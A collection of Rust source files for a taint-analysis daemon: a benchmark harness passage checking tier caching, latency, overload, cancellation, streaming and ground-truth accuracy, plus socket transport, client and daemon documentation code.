            AnalyzeOutcome::Rejected { .. } => panic!("unbounded queue must not reject"),
            AnalyzeOutcome::Denied { .. } => panic!("corpus names never hit the path policy"),
        };
        for threads in [1u64, 4] {
            let opts = AnalyzeOptions {
                stream: true,
                taint_threads: Some(threads),
                ..Default::default()
            };
            let streamed = match c
                .analyze_with(name, &opts, &mut |frame| match frame.str_field("type") {
                    Some("progress") => progress_frames += 1,
                    Some("leak") => leak_frames += 1,
                    other => panic!("unexpected frame type {other:?}"),
                })
                .expect("streamed job")
            {
                AnalyzeOutcome::Done { result, .. } => result,
                AnalyzeOutcome::Rejected { .. } => panic!("unbounded queue must not reject"),
            AnalyzeOutcome::Denied { .. } => panic!("corpus names never hit the path policy"),
            };
            if streamed.report != baseline.report {
                stream_divergences += 1;
                eprintln!(
                    "service-load: STREAM DIVERGENCE on {name} at {threads} taint thread(s)"
                );
            }
        }
    }
    drop(c);
    stop(&addr, h);
    let _ = std::fs::remove_file(&snap_path);
    eprintln!(
        "service-load: {} streamed runs, {progress_frames} progress + {leak_frames} leak \
         frames, {stream_divergences} divergence(s)",
        names.len() * 2
    );

    // ---- Emit the section and enforce the gates ----
    let mut section = String::new();
    writeln!(section, "{{").unwrap();
    writeln!(section, "    \"tiers\": {{").unwrap();
    writeln!(section, "      \"cold_summary_hits\": {},", cold.summary_hits).unwrap();
    writeln!(section, "      \"memory_tier_hits\": {memory_hits},").unwrap();
    writeln!(section, "      \"local_tier_hits\": {local_hits},").unwrap();
    writeln!(section, "      \"chunk_tier_hits\": {chunk_hits},").unwrap();
    writeln!(section, "      \"chunk_promotions\": {chunk_promotions},").unwrap();
    writeln!(section, "      \"warm_memory_summary_hits\": {},", warm_memory.summary_hits)
        .unwrap();
    writeln!(section, "      \"warm_local_summary_hits\": {},", warm_local.summary_hits)
        .unwrap();
    writeln!(section, "      \"warm_chunk_summary_hits\": {},", warm_chunk.summary_hits)
        .unwrap();
    writeln!(section, "      \"namespace_cold_hits\": {namespace_cold_hits},").unwrap();
    writeln!(section, "      \"store_tiers_reported\": {store_tiers_reported},").unwrap();
    writeln!(section, "      \"reports_identical\": {tier_reports_identical}").unwrap();
    writeln!(section, "    }},").unwrap();
    writeln!(section, "    \"latency\": {{").unwrap();
    writeln!(section, "      \"workers\": 1,").unwrap();
    writeln!(section, "      \"high_jobs\": {},", high_ms.len()).unwrap();
    writeln!(section, "      \"batch_jobs\": 8,").unwrap();
    writeln!(section, "      \"batch_completed\": {batch_completed},").unwrap();
    writeln!(section, "      \"high_p50_ms\": {high_p50:.3},").unwrap();
    writeln!(section, "      \"high_p99_ms\": {high_p99:.3},").unwrap();
    writeln!(section, "      \"batch_p50_ms\": {batch_p50:.3},").unwrap();
    writeln!(section, "      \"batch_p99_ms\": {batch_p99:.3},").unwrap();
    writeln!(section, "      \"high_p99_below_batch_p99\": {}", high_p99 < batch_p99)
        .unwrap();
    writeln!(section, "    }},").unwrap();
    writeln!(section, "    \"overload\": {{").unwrap();
    writeln!(section, "      \"workers\": 1,").unwrap();
    writeln!(section, "      \"queue_cap\": 4,").unwrap();
    writeln!(section, "      \"submitted\": 20,").unwrap();
    writeln!(section, "      \"accepted\": {accepted},").unwrap();
    writeln!(section, "      \"rejected\": {rejected},").unwrap();
    writeln!(section, "      \"stats_rejected\": {stats_rejected},").unwrap();
    writeln!(section, "      \"accepted_p99_ms\": {overload_p99:.3}").unwrap();
    writeln!(section, "    }},").unwrap();
    writeln!(section, "    \"cancel_storm\": {{").unwrap();
    writeln!(section, "      \"jobs\": 10,").unwrap();
    writeln!(section, "      \"cancelled\": 8,").unwrap();
    writeln!(section, "      \"completed\": {storm_completed},").unwrap();
    writeln!(section, "      \"cancel_requests\": {storm_cancel_requests},").unwrap();
    writeln!(section, "      \"queue_depth_after\": {storm_queue_depth},").unwrap();
    writeln!(section, "      \"drain_ms\": {storm_drain_ms:.3}").unwrap();
    writeln!(section, "    }},").unwrap();
    writeln!(section, "    \"streaming\": {{").unwrap();
    writeln!(section, "      \"apps\": {},", names.len()).unwrap();
    writeln!(section, "      \"streamed_runs\": {},", names.len() * 2).unwrap();
    writeln!(section, "      \"progress_frames\": {progress_frames},").unwrap();
    writeln!(section, "      \"leak_frames\": {leak_frames},").unwrap();
    writeln!(section, "      \"divergences\": {stream_divergences},").unwrap();
    writeln!(section, "      \"reports_identical\": {}", stream_divergences == 0).unwrap();
    writeln!(section, "    }}").unwrap();
    write!(section, "  }}").unwrap();

    let json = splice_tail_section(out_path, "service_load", &section, names.len(), cores);
    std::fs::write(out_path, &json).expect("write service-load benchmark");
    eprintln!("wrote {out_path} (service_load section)");

    let mut failed = false;
    let mut fail = |msg: &str| {
        eprintln!("FAIL: {msg}");
        failed = true;
    };
    if cold.summary_hits != 0 {
        fail("tier phase: the cold job saw summary hits");
    }
    if !all_tiers_hit {
        fail("tier phase: a storage tier recorded no warm hit");
    }
    if warm_memory.summary_hits == 0
        || warm_local.summary_hits == 0
        || warm_chunk.summary_hits == 0
    {
        fail("tier phase: a warm job replayed no summaries");
    }
    if namespace_cold_hits != 0 {
        fail("tier phase: a foreign namespace observed another tenant's summaries");
    }
    if !store_tiers_reported {
        fail("tier phase: daemon stats carry no store_tiers section");
    }
    if !tier_reports_identical {
        fail("tier phase: a warm or foreign-namespace report diverged");
    }
    if batch_completed != 8 {
        fail("latency phase: batch jobs starved under high-priority traffic");
    }
    if high_p99 >= batch_p99 {
        fail("latency phase: high-priority p99 is not below batch p99");
    }
    if rejected == 0 {
        fail("overload phase: a full queue rejected nothing");
    }
    if stats_rejected != rejected {
        fail("overload phase: daemon rejection counter disagrees with the client");
    }
    if !overload_p99.is_finite() {
        fail("overload phase: accepted-job p99 is not finite");
    }
    if storm_completed != 10 || storm_queue_depth != 0 {
        fail("cancel storm: jobs left undrained");
    }
    if storm_cancel_requests != 8 {
        fail("cancel storm: cancel-request counter did not reconcile");
    }
    if progress_frames == 0 || leak_frames == 0 {
        fail("streaming phase: no frames observed");
    }
    if stream_divergences != 0 {
        fail("streaming phase: a streamed report diverged from the non-streamed run");
    }
    if failed {
        std::process::exit(1);
    }
}

/// `--mode ground-truth`: the seeded differential harness. Generates
/// the synthetic corpus, sweeps the full engine matrix, scores the
/// reference engine against the manifests, checks linked-ICC mode, and
/// serves the packed `.rpk` archives through an in-process daemon
/// under the `--allow-apps` path policy. See the module docs for the
/// gates.
fn run_ground_truth(out_path: &str) {
    use flowdroid_bench::driver::run_single;
    use flowdroid_service::{AnalyzeOptions, Submitted};
    use flowdroid_truth::{check_icc_linked, generate_corpus, run_differential};

    const SEED: u64 = 42;
    const PER_CATEGORY: usize = 2;

    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let apps = generate_corpus(SEED, PER_CATEGORY);
    eprintln!(
        "ground-truth: differential sweep over {} generated apps (seed {SEED}) ...",
        apps.len()
    );

    let cache = std::env::temp_dir()
        .join(format!("flowdroid-ground-truth-cache-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache);
    let d = run_differential(&apps, &cache);
    let _ = std::fs::remove_dir_all(&cache);

    eprintln!("ground-truth: linked-ICC re-check ...");
    let icc = check_icc_linked(&apps);

    // ---- Daemon leg: every archive served under the path policy ----
    eprintln!("ground-truth: daemon leg ({} .rpk archives) ...", apps.len());
    let root = std::env::temp_dir()
        .join(format!("flowdroid-ground-truth-apps-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).expect("create allow root");
    let rpks: Vec<_> = apps
        .iter()
        .map(|app| {
            let path = root.join(format!("{}.rpk", app.name.replace('/', "-")));
            std::fs::write(&path, app.rpk_bytes()).expect("write rpk");
            (app, path)
        })
        .collect();
    let daemon = Daemon::bind(DaemonOptions {
        listen: Listen::parse("127.0.0.1:0"),
        workers: 2,
        queue_cap: 0,
        summary_cache: None,
        platform_snapshot: None,
        allow_apps: vec![root.clone()],
    })
    .expect("bind daemon");
    let addr = daemon.local_addr().to_string();
    let accept_loop = std::thread::spawn(move || daemon.run().expect("daemon run"));
    let mut c = Client::connect(&addr).expect("connect");

    // External jobs carry a content-hashed name, so the report header
    // differs from the local run's; the sorted leak lines underneath
    // are the byte-comparison unit.
    let leak_lines =
        |report: &str| -> String { report.lines().skip(1).collect::<Vec<_>>().join("\n") };
    let mut daemon_mismatches = 0usize;
    for (app, path) in &rpks {
        let (_, result) =
            c.analyze(path.to_str().unwrap(), None, None, None).expect("external job");
        let local = run_single(&app.job(), &InfoflowConfig::default());
        if result.leaks as usize != app.expected_reported
            || leak_lines(&result.report) != leak_lines(&local.report)
        {
            daemon_mismatches += 1;
            eprintln!("ground-truth: DAEMON MISMATCH on {}", app.name);
        }
    }
    // And the policy must refuse a path outside the allow root.
    let outside = std::env::temp_dir()
        .join(format!("flowdroid-ground-truth-outside-{}.rpk", std::process::id()));
    std::fs::write(&outside, b"never served").expect("write outside file");
    let policy_denied_works = matches!(
        c.submit(outside.to_str().unwrap(), &AnalyzeOptions::default())
            .expect("submit outside path"),
        Submitted::Denied { .. }
    );
    let _ = std::fs::remove_file(&outside);
    c.shutdown().expect("shutdown");
    accept_loop.join().expect("accept loop exits cleanly");
    let _ = std::fs::remove_dir_all(&root);
    let daemon_external_ok = daemon_mismatches == 0;

    let mut section = String::new();
    writeln!(section, "{{").unwrap();
    writeln!(section, "    \"seed\": {SEED},").unwrap();
    writeln!(section, "    \"apps\": {},", apps.len()).unwrap();
    let engine_names: Vec<String> =
        d.engines.iter().map(|e| format!("\"{}\"", e.name)).collect();
    writeln!(section, "    \"engines\": [{}],", engine_names.join(", ")).unwrap();
    writeln!(section, "    \"divergent_pairs\": {},", d.divergent_pairs).unwrap();
    writeln!(section, "    \"reports_identical\": {},", d.divergent_pairs == 0).unwrap();
    writeln!(section, "    \"drift_apps\": {},", d.drift.len()).unwrap();
    writeln!(section, "    \"categories\": [").unwrap();
    let rows: Vec<String> = d
        .board
        .rows()
        .map(|(cat, s)| {
            format!(
                concat!(
                    "      {{ \"category\": \"{}\", \"tp\": {}, \"fp\": {}, \"fn\": {}, ",
                    "\"precision\": {:.4}, \"recall\": {:.4} }}"
                ),
                cat,
                s.tp,
                s.fp,
                s.fn_,
                s.precision(),
                s.recall()
            )
        })
        .collect();
    writeln!(section, "{}", rows.join(",\n")).unwrap();
    writeln!(section, "    ],").unwrap();
    writeln!(section, "    \"constructive_tp\": {},", d.constructive.tp).unwrap();
    writeln!(section, "    \"constructive_fp\": {},", d.constructive.fp).unwrap();
    writeln!(section, "    \"constructive_fn\": {},", d.constructive.fn_).unwrap();
    writeln!(section, "    \"constructive_precision\": {:.4},", d.constructive.precision())
        .unwrap();
    writeln!(section, "    \"constructive_recall\": {:.4},", d.constructive.recall())
        .unwrap();
    writeln!(section, "    \"k_limit_apps\": {},", d.k_limit.apps).unwrap();
    writeln!(section, "    \"k_limit_tripped\": {},", d.k_limit.tripped).unwrap();
    writeln!(section, "    \"k_limit_precise\": {},", d.k_limit.precise).unwrap();
    writeln!(section, "    \"icc_linked_apps\": {},", icc.apps).unwrap();
    writeln!(section, "    \"icc_linked_ok\": {},", icc.ok()).unwrap();
    writeln!(section, "    \"daemon_apps\": {},", rpks.len()).unwrap();
    writeln!(section, "    \"daemon_mismatches\": {daemon_mismatches},").unwrap();
    writeln!(section, "    \"daemon_external_ok\": {daemon_external_ok},").unwrap();
    writeln!(section, "    \"policy_denied_works\": {policy_denied_works}").unwrap();
    write!(section, "  }}").unwrap();

    let json = splice_tail_section(out_path, "ground_truth", &section, apps.len(), cores);
    std::fs::write(out_path, &json).expect("write ground-truth section");
    eprintln!("wrote {out_path} (ground_truth section)");
    eprint!("{}", d.board.render());

    let mut failed = false;
    let mut fail = |msg: &str| {
        eprintln!("FAIL: {msg}");
        failed = true;
    };
    if d.divergent_pairs != 0 {
        fail("engine matrix: pairwise report divergence");
        for row in &d.agreement {
            eprintln!("  agreement: {row:?}");
        }
    }
    if !d.drift.is_empty() {
        fail("ground-truth drift: reference engine disagrees with a manifest");
        for line in &d.drift {
            eprintln!("  drift: {line}");
        }
    }
    if d.constructive.fp != 0 || d.constructive.fn_ != 0 {
        fail("constructive corpus: precision/recall below 1.0");
    }
    if !d.k_limit.ok() {
        fail("widening apps never tripped the access-path k-limit");
    }
    if !icc.ok() {
        fail("linked-ICC leak counts diverged from the manifests");
        for line in &icc.mismatches {
            eprintln!("  icc: {line}");
        }
    }
    if !daemon_external_ok {
        fail("daemon leg: an externally served .rpk diverged from the local run");
    }
    if !policy_denied_works {
        fail("path policy accepted an archive outside the allow root");
    }
    if failed {
        std::process::exit(1);
    }
}
