//! Transport for the daemon: TCP or Unix-domain sockets behind one
//! address syntax.
//!
//! Addresses are plain `host:port` strings for TCP, or `unix:<path>`
//! for a Unix-domain socket. `127.0.0.1:0` binds an ephemeral port; the
//! daemon reports the resolved address so scripts can parse it.

use std::io::{self, Read, Write};
use std::net::{TcpListener, TcpStream};
#[cfg(unix)]
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::PathBuf;

/// Where the daemon listens (or a client connects).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Listen {
    /// A TCP socket address, e.g. `127.0.0.1:7433`.
    Tcp(String),
    /// A Unix-domain socket path.
    Unix(PathBuf),
}

impl Listen {
    /// Parses an address string: `unix:<path>` selects a Unix socket,
    /// anything else is a TCP address.
    pub fn parse(addr: &str) -> Listen {
        match addr.strip_prefix("unix:") {
            Some(path) => Listen::Unix(PathBuf::from(path)),
            None => Listen::Tcp(addr.to_string()),
        }
    }
}

impl std::fmt::Display for Listen {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Listen::Tcp(addr) => f.write_str(addr),
            Listen::Unix(path) => write!(f, "unix:{}", path.display()),
        }
    }
}

/// One accepted (or dialed) connection.
pub trait Conn: Read + Write + Send {}
impl<T: Read + Write + Send> Conn for T {}

/// A bound server socket.
pub enum Listener {
    /// TCP.
    Tcp(TcpListener),
    /// Unix domain.
    #[cfg(unix)]
    Unix(UnixListener, PathBuf),
}

impl Listener {
    /// Binds the address. An existing Unix socket file is replaced
    /// (stale files from a crashed daemon would otherwise block every
    /// restart).
    pub fn bind(listen: &Listen) -> io::Result<Listener> {
        match listen {
            Listen::Tcp(addr) => TcpListener::bind(addr.as_str()).map(Listener::Tcp),
            #[cfg(unix)]
            Listen::Unix(path) => {
                let _ = std::fs::remove_file(path);
                UnixListener::bind(path).map(|l| Listener::Unix(l, path.clone()))
            }
            #[cfg(not(unix))]
            Listen::Unix(_) => Err(io::Error::new(
                io::ErrorKind::Unsupported,
                "unix sockets are not available on this platform",
            )),
        }
    }

    /// The resolved address (with the actual port for `:0` binds), in
    /// the same syntax [`Listen::parse`] accepts.
    pub fn local_addr(&self) -> io::Result<Listen> {
        match self {
            Listener::Tcp(l) => Ok(Listen::Tcp(l.local_addr()?.to_string())),
            #[cfg(unix)]
            Listener::Unix(_, path) => Ok(Listen::Unix(path.clone())),
        }
    }

    /// Blocks for the next connection.
    pub fn accept(&self) -> io::Result<Box<dyn Conn>> {
        match self {
            Listener::Tcp(l) => {
                let (s, _) = l.accept()?;
                Ok(Box::new(s))
            }
            #[cfg(unix)]
            Listener::Unix(l, _) => {
                let (s, _) = l.accept()?;
                Ok(Box::new(s))
            }
        }
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        #[cfg(unix)]
        if let Listener::Unix(_, path) = self {
            let _ = std::fs::remove_file(path);
        }
    }
}

/// Dials the address.
pub fn connect(listen: &Listen) -> io::Result<Box<dyn Conn>> {
    match listen {
        Listen::Tcp(addr) => TcpStream::connect(addr.as_str()).map(|s| Box::new(s) as _),
        #[cfg(unix)]
        Listen::Unix(path) => UnixStream::connect(path).map(|s| Box::new(s) as _),
        #[cfg(not(unix))]
        Listen::Unix(_) => Err(io::Error::new(
            io::ErrorKind::Unsupported,
            "unix sockets are not available on this platform",
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_both_address_syntaxes() {
        assert_eq!(Listen::parse("127.0.0.1:7433"), Listen::Tcp("127.0.0.1:7433".to_string()));
        assert_eq!(Listen::parse("unix:/tmp/fd.sock"), Listen::Unix(PathBuf::from("/tmp/fd.sock")));
        assert_eq!(Listen::parse("unix:/tmp/fd.sock").to_string(), "unix:/tmp/fd.sock");
    }

    #[test]
    fn ephemeral_tcp_bind_reports_port() {
        let l = Listener::bind(&Listen::parse("127.0.0.1:0")).unwrap();
        let Listen::Tcp(addr) = l.local_addr().unwrap() else { panic!("tcp expected") };
        assert!(!addr.ends_with(":0"), "resolved address should carry the real port: {addr}");
    }
}
