//! A blocking client for the daemon protocol.

use crate::json::{self, Json};
use crate::net::{connect, Conn, Listen};
use crate::proto::{AnalyzeRequest, JobResult, Priority, Request};
use std::io::{self, BufRead, BufReader, Write};

/// Per-submission knobs beyond the app name. `Default` matches the
/// wire defaults: no deadline, no budget, sequential taint engine,
/// normal priority, shared cache namespace, no streaming.
#[derive(Clone, Debug, Default)]
pub struct AnalyzeOptions {
    /// Wall-clock deadline in milliseconds (None = unbounded).
    pub deadline_ms: Option<u64>,
    /// Propagation budget (None = unbounded).
    pub max_propagations: Option<u64>,
    /// Taint worker threads (None = sequential solver).
    pub taint_threads: Option<u64>,
    /// Admission lane.
    pub priority: Priority,
    /// Summary-cache namespace ("" = the shared default namespace).
    pub namespace: String,
    /// Request `progress`/`leak` frames before the result line.
    pub stream: bool,
}

impl AnalyzeOptions {
    fn to_request(&self, app: &str) -> AnalyzeRequest {
        AnalyzeRequest {
            app: app.to_string(),
            deadline_ms: self.deadline_ms,
            max_propagations: self.max_propagations,
            taint_threads: self.taint_threads,
            priority: self.priority,
            namespace: self.namespace.clone(),
            stream: self.stream,
        }
    }
}

/// The daemon's immediate answer to a submission.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Submitted {
    /// Accepted; the job id from the `queued` line.
    Queued(u64),
    /// Refused by admission control (backpressure) — nothing was
    /// enqueued and no job id was allocated. Retry later.
    Rejected {
        /// Waiting jobs at refusal time.
        queue_depth: u64,
        /// The daemon's configured cap.
        queue_cap: u64,
    },
    /// Refused by the daemon's external-app path policy: the requested
    /// path is outside its `--allow-apps` sandbox (or it serves no
    /// external apps at all). Retrying is pointless.
    Denied {
        /// The daemon's refusal message.
        message: String,
    },
}

/// Final outcome of a blocking [`Client::analyze_with`] call.
#[derive(Clone, Debug, PartialEq)]
pub enum AnalyzeOutcome {
    /// The job ran; its id and result.
    Done {
        /// The job id.
        job: u64,
        /// The terminal result line.
        result: JobResult,
    },
    /// Refused by admission control; see [`Submitted::Rejected`].
    Rejected {
        /// Waiting jobs at refusal time.
        queue_depth: u64,
        /// The daemon's configured cap.
        queue_cap: u64,
    },
    /// Refused by the external-app path policy; see
    /// [`Submitted::Denied`].
    Denied {
        /// The daemon's refusal message.
        message: String,
    },
}

/// One connection to a daemon.
pub struct Client {
    reader: BufReader<Box<dyn Conn>>,
}

impl Client {
    /// Dials `addr` (`host:port` or `unix:<path>`).
    pub fn connect(addr: &str) -> io::Result<Client> {
        let conn = connect(&Listen::parse(addr))?;
        Ok(Client { reader: BufReader::new(conn) })
    }

    /// Sends one request line.
    pub fn send(&mut self, req: &Request) -> io::Result<()> {
        let conn = self.reader.get_mut();
        conn.write_all(req.to_line().as_bytes())?;
        conn.write_all(b"\n")?;
        conn.flush()
    }

    /// Reads and parses one response line. `error` responses become
    /// `io::Error`s; `rejected` lines pass through as [`Json`].
    pub fn read_response(&mut self) -> io::Result<Json> {
        let mut line = String::new();
        if self.reader.read_line(&mut line)? == 0 {
            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "daemon closed connection"));
        }
        let v = json::parse(line.trim())
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        if v.str_field("type") == Some("error") {
            let msg = v.str_field("message").unwrap_or("unknown daemon error");
            return Err(io::Error::other(format!("daemon error: {msg}")));
        }
        Ok(v)
    }

    /// Sends a request and reads one response line.
    pub fn roundtrip(&mut self, req: &Request) -> io::Result<Json> {
        self.send(req)?;
        self.read_response()
    }

    /// Submits a job and reads the immediate `queued`-or-`rejected`
    /// answer *without* waiting for the result. When queued, any
    /// streamed frames and the result line stay pending on this
    /// connection; read them with [`Client::read_response`].
    pub fn submit(&mut self, app: &str, opts: &AnalyzeOptions) -> io::Result<Submitted> {
        self.send(&Request::Analyze(opts.to_request(app)))?;
        let first = self.read_response()?;
        match first.str_field("type") {
            Some("queued") => {
                let id = first.u64_field("job").ok_or_else(|| {
                    io::Error::new(io::ErrorKind::InvalidData, "missing job id")
                })?;
                Ok(Submitted::Queued(id))
            }
            Some("rejected") => Ok(Submitted::Rejected {
                queue_depth: first.u64_field("queue_depth").unwrap_or(0),
                queue_cap: first.u64_field("queue_cap").unwrap_or(0),
            }),
            Some("denied") => Ok(Submitted::Denied {
                message: first
                    .str_field("message")
                    .unwrap_or("path denied by policy")
                    .to_string(),
            }),
            other => Err(io::Error::new(
                io::ErrorKind::InvalidData,
                format!("unexpected reply to analyze: {other:?}"),
            )),
        }
    }

    /// Submits a job and blocks until its result, passing every
    /// intermediate frame (`progress`, `leak`) to `on_frame`. With
    /// `opts.stream == false` no frames arrive and `on_frame` is never
    /// called. (Use a second connection for `cancel` or `stats` while
    /// this blocks.)
    pub fn analyze_with(
        &mut self,
        app: &str,
        opts: &AnalyzeOptions,
        on_frame: &mut dyn FnMut(&Json),
    ) -> io::Result<AnalyzeOutcome> {
        let job = match self.submit(app, opts)? {
            Submitted::Rejected { queue_depth, queue_cap } => {
                return Ok(AnalyzeOutcome::Rejected { queue_depth, queue_cap })
            }
            Submitted::Denied { message } => return Ok(AnalyzeOutcome::Denied { message }),
            Submitted::Queued(id) => id,
        };
        loop {
            let v = self.read_response()?;
            if v.str_field("type") == Some("result") {
                let result = JobResult::from_json(&v).ok_or_else(|| {
                    io::Error::new(io::ErrorKind::InvalidData, "malformed result line")
                })?;
                return Ok(AnalyzeOutcome::Done { job, result });
            }
            on_frame(&v);
        }
    }

    /// Submits an analysis job and blocks until its result; returns the
    /// job id and the result. Rejection (only possible when the daemon
    /// runs with a finite queue cap) surfaces as an `io::Error`.
    pub fn analyze(
        &mut self,
        app: &str,
        deadline_ms: Option<u64>,
        max_propagations: Option<u64>,
        taint_threads: Option<u64>,
    ) -> io::Result<(u64, JobResult)> {
        let opts = AnalyzeOptions { deadline_ms, max_propagations, taint_threads, ..Default::default() };
        match self.analyze_with(app, &opts, &mut |_| {})? {
            AnalyzeOutcome::Done { job, result } => Ok((job, result)),
            AnalyzeOutcome::Rejected { queue_depth, queue_cap } => Err(io::Error::other(format!(
                "daemon rejected job: queue full ({queue_depth}/{queue_cap})"
            ))),
            AnalyzeOutcome::Denied { message } => {
                Err(io::Error::other(format!("daemon denied app path: {message}")))
            }
        }
    }

    /// Submits an analysis job and returns its id *without* waiting for
    /// the result (the result line stays pending on this connection;
    /// read it later with [`Client::read_response`]).
    pub fn analyze_async(
        &mut self,
        app: &str,
        deadline_ms: Option<u64>,
        max_propagations: Option<u64>,
        taint_threads: Option<u64>,
    ) -> io::Result<u64> {
        let opts = AnalyzeOptions { deadline_ms, max_propagations, taint_threads, ..Default::default() };
        match self.submit(app, &opts)? {
            Submitted::Queued(id) => Ok(id),
            Submitted::Rejected { queue_depth, queue_cap } => Err(io::Error::other(format!(
                "daemon rejected job: queue full ({queue_depth}/{queue_cap})"
            ))),
            Submitted::Denied { message } => {
                Err(io::Error::other(format!("daemon denied app path: {message}")))
            }
        }
    }

    /// Cancels a job (by id from `analyze`'s `queued` line).
    pub fn cancel(&mut self, job: u64) -> io::Result<Json> {
        self.roundtrip(&Request::Cancel { job })
    }

    /// Fetches daemon statistics.
    pub fn stats(&mut self) -> io::Result<Json> {
        self.roundtrip(&Request::Stats)
    }

    /// Asks the daemon to drain, flush and stop; returns its final
    /// `ok` line.
    pub fn shutdown(&mut self) -> io::Result<Json> {
        self.roundtrip(&Request::Shutdown)
    }
}
