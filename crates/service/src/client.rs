//! A blocking client for the daemon protocol.

use crate::json::{self, Json};
use crate::net::{connect, Conn, Listen};
use crate::proto::{JobResult, Request};
use std::io::{self, BufRead, BufReader, Write};

/// One connection to a daemon.
pub struct Client {
    reader: BufReader<Box<dyn Conn>>,
}

impl Client {
    /// Dials `addr` (`host:port` or `unix:<path>`).
    pub fn connect(addr: &str) -> io::Result<Client> {
        let conn = connect(&Listen::parse(addr))?;
        Ok(Client { reader: BufReader::new(conn) })
    }

    /// Sends one request line.
    pub fn send(&mut self, req: &Request) -> io::Result<()> {
        let conn = self.reader.get_mut();
        conn.write_all(req.to_line().as_bytes())?;
        conn.write_all(b"\n")?;
        conn.flush()
    }

    /// Reads and parses one response line. `error` responses become
    /// `io::Error`s.
    pub fn read_response(&mut self) -> io::Result<Json> {
        let mut line = String::new();
        if self.reader.read_line(&mut line)? == 0 {
            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "daemon closed connection"));
        }
        let v = json::parse(line.trim())
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        if v.str_field("type") == Some("error") {
            let msg = v.str_field("message").unwrap_or("unknown daemon error");
            return Err(io::Error::other(format!("daemon error: {msg}")));
        }
        Ok(v)
    }

    /// Sends a request and reads one response line.
    pub fn roundtrip(&mut self, req: &Request) -> io::Result<Json> {
        self.send(req)?;
        self.read_response()
    }

    /// Submits an analysis job and blocks until its result; returns the
    /// job id and the result. (Use a second connection for `cancel` or
    /// `stats` while this blocks.)
    pub fn analyze(
        &mut self,
        app: &str,
        deadline_ms: Option<u64>,
        max_propagations: Option<u64>,
        taint_threads: Option<u64>,
    ) -> io::Result<(u64, JobResult)> {
        self.send(&Request::Analyze {
            app: app.to_string(),
            deadline_ms,
            max_propagations,
            taint_threads,
        })?;
        let queued = self.read_response()?;
        let id = queued
            .u64_field("job")
            .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "missing job id"))?;
        let result = self.read_response()?;
        let result = JobResult::from_json(&result).ok_or_else(|| {
            io::Error::new(io::ErrorKind::InvalidData, "malformed result line")
        })?;
        Ok((id, result))
    }

    /// Submits an analysis job and returns its id *without* waiting for
    /// the result (the result line stays pending on this connection;
    /// read it later with [`Client::read_response`]).
    pub fn analyze_async(
        &mut self,
        app: &str,
        deadline_ms: Option<u64>,
        max_propagations: Option<u64>,
        taint_threads: Option<u64>,
    ) -> io::Result<u64> {
        self.send(&Request::Analyze {
            app: app.to_string(),
            deadline_ms,
            max_propagations,
            taint_threads,
        })?;
        self.read_response()?
            .u64_field("job")
            .ok_or_else(|| io::Error::new(io::ErrorKind::InvalidData, "missing job id"))
    }

    /// Cancels a job (by id from `analyze`'s `queued` line).
    pub fn cancel(&mut self, job: u64) -> io::Result<Json> {
        self.roundtrip(&Request::Cancel { job })
    }

    /// Fetches daemon statistics.
    pub fn stats(&mut self) -> io::Result<Json> {
        self.roundtrip(&Request::Stats)
    }

    /// Asks the daemon to drain, flush and stop; returns its final
    /// `ok` line.
    pub fn shutdown(&mut self) -> io::Result<Json> {
        self.roundtrip(&Request::Shutdown)
    }
}
