//! The analysis daemon: a bounded worker pool behind a line-delimited
//! JSON socket protocol (see [`crate::proto`]).
//!
//! One daemon process serves many analysis jobs and amortizes warm
//! state across them: all jobs share the process-global summary-store
//! registry, and the daemon promotes each completed job's staged
//! summaries (one `flush` per non-aborted job), so the second analysis
//! of an app — or of any app sharing library code with an earlier one —
//! starts from a warm cache. Aborted jobs never stage summaries, so a
//! deadline or cancel can't poison the cache for later jobs.
//!
//! The Android platform model is built (or loaded from a
//! `platform.fdps` snapshot, see [`DaemonOptions::platform_snapshot`])
//! exactly once at bind time, frozen into a shared
//! [`flowdroid_ir::ProgramBase`], and shared read-only across all
//! worker jobs. Each job opens a cheap copy-on-write *overlay* over
//! that base (no deep clone of the platform arena) and loads app code
//! through the demand-driven frontend, so per-job setup cost is the
//! app decode plus call-graph work — not the platform build or copy —
//! and an aborted job can never leave partially materialized bodies
//! behind: materialization happens in the job's private overlay only.
//! On top of that, a daemon-resident [`CgCache`] keeps each app's
//! entry-point model, materialization log and callgraph keyed by a
//! platform+app fingerprint, so repeat jobs replay the cached setup
//! instead of re-discovering components and rebuilding the callgraph.
//!
//! Concurrency layout:
//!
//! * the **accept loop** ([`Daemon::run`]) spawns one thread per
//!   connection;
//! * `analyze` requests enqueue on a bounded three-lane **priority
//!   queue** (`high`/`normal`/`batch`) consumed by `workers` pool
//!   threads (each job runs to completion on one worker; the job's own
//!   solver may use further threads via `taint_threads`). Workers
//!   dequeue high before normal before batch, but after
//!   [`AGING_STREAK`] consecutive non-batch picks a waiting batch job
//!   is served first, so saturating interactive traffic cannot starve
//!   bulk work. When [`DaemonOptions::queue_cap`] jobs are already
//!   waiting, further `analyze` requests are rejected with a typed
//!   `rejected` reply (backpressure) instead of being buffered without
//!   bound;
//! * with `"stream":true`, the connection handler relays the solver's
//!   [`ProgressEvent`]s as throttled `progress` frames and immediate
//!   `leak` frames while the job runs; the sink is purely
//!   observational, so the final `result` line is byte-identical to a
//!   non-streamed run;
//! * each job carries an [`AbortHandle`] created at submission —
//!   `deadline_ms` arms its wall-clock deadline, `cancel` requests trip
//!   it from any connection, and the propagation budget trips it from
//!   inside the solver — so the solvers' periodic polls bound how far a
//!   job can overrun;
//! * `shutdown` closes the queue (workers drain what is already
//!   queued and exit), wakes the accept loop and unlinks a Unix socket
//!   path *before* draining — so the address disappears promptly even
//!   when workers are mid-job — then waits for every job to finish and
//!   flushes the summary cache a final time; the worker threads are
//!   joined before [`Daemon::run`] returns.

use crate::external::{is_path_request, load_external_job, AppPolicy};
